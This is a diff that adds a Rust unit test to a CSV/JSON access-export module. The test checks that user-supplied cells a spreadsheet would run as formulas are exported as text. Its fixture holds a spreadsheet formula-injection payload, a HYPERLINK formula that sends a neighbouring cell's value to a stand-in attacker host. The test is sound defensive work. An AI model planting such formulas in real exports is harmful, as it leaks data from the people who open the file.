@@ -128,3 +128,40 @@ async fn report_and_digest_commands_print_every_format() {
         "{text}"
     );
 }
+
+/// Folder names and hand-made userNames are chosen by workspace members: a cell a
+/// spreadsheet would run as a formula is exported as text; the JSON keeps it as is.
+#[test]
+fn csv_cells_a_spreadsheet_would_run_are_exported_as_text() {
+    use seatwarden::export::{AccessExport, AccessRow};
+    let export = AccessExport {
+        run_id: 7,
+        snapshot_at: chrono::Utc::now(),
+        accounts: vec![AccessRow {
+            account_id: "a1".into(),
+            user_name: "@evil".into(),
+            active: true,
+            role: "Viewer".into(),
+            workspace_groups: vec![
+                "=HYPERLINK(\"https://evil.example/?\"&B2,\"x\")".into(),
+                "Finance".into(),
+            ],
+            identity_id: None,
+            identity_user_name: None,
+            identity_status: None,
+            justification: "unmanaged".into(),
+            last_change: None,
+        }],
+    };
+    let csv = export.to_csv().unwrap();
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[0], "a1");
+    assert_eq!(&row[1], "'@evil");
+    assert_eq!(
+        &row[4],
+        "'=HYPERLINK(\"https://evil.example/?\"&B2,\"x\");Finance"
+    );
+    assert_eq!(&row[8], "unmanaged");
+    assert!(export.to_json().contains("\"user_name\": \"@evil\""));
+}
